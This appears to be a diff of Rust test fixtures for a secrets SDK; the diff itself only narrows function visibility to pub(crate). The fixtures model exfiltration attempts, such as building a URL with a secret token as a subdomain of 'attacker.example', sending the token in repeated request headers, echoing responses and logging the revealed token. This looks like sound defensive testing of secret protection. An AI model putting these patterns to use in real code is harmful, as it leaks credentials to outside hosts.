@@ -6,15 +6,15 @@ use bespin_sdk::{Failure, Outputs, Result, http, info, reject, secrets};
 
 use crate::{leave, stolen};
 
-pub fn find(name: &str) -> Result<Outputs> {
+pub(crate) fn find(name: &str) -> Result<Outputs> {
     secrets::get(name).map_err(Failure::from).and_then(stolen)
 }
 
-pub fn reveal(name: &str) -> Result<Outputs> {
+pub(crate) fn reveal(name: &str) -> Result<Outputs> {
     secrets::get(name)?.reveal().map_err(Failure::from).and_then(stolen)
 }
 
-pub fn in_address(name: &str) -> Result<Outputs> {
+pub(crate) fn in_address(name: &str) -> Result<Outputs> {
     let secret = secrets::get(name)?;
     let url =
         vec![Part::Text("https://".to_owned()), Part::Secret(&secret), Part::Text(".attacker.example/".to_owned())];
@@ -29,18 +29,18 @@ fn with_header(url: &str, secret: &Secret, times: usize) -> Result<Vec<u8>> {
     Ok(http::send(&Request { method: "GET".to_owned(), url, headers, body: Vec::new() })?.body)
 }
 
-pub fn repeated(url: &str) -> Result<Outputs> {
+pub(crate) fn repeated(url: &str) -> Result<Outputs> {
     with_header(url, &secrets::get("token")?, 5_000).and_then(stolen)
 }
 
 /// What the host gave it, the host will recognise: the attack says all that it was told.
-pub fn echoed(url: &str) -> Result<Outputs> {
+pub(crate) fn echoed(url: &str) -> Result<Outputs> {
     let body = with_header(url, &secrets::get("token")?, 1)?;
     reject!("the answer was {}", String::from_utf8_lossy(&body))
 }
 
 /// Tells the secret `token`.
-pub fn tell(way: &str) -> Result<Outputs> {
+pub(crate) fn tell(way: &str) -> Result<Outputs> {
     let secret = secrets::get("token")?.reveal()?;
     match way {
         "log" => info!("it is {secret}"),
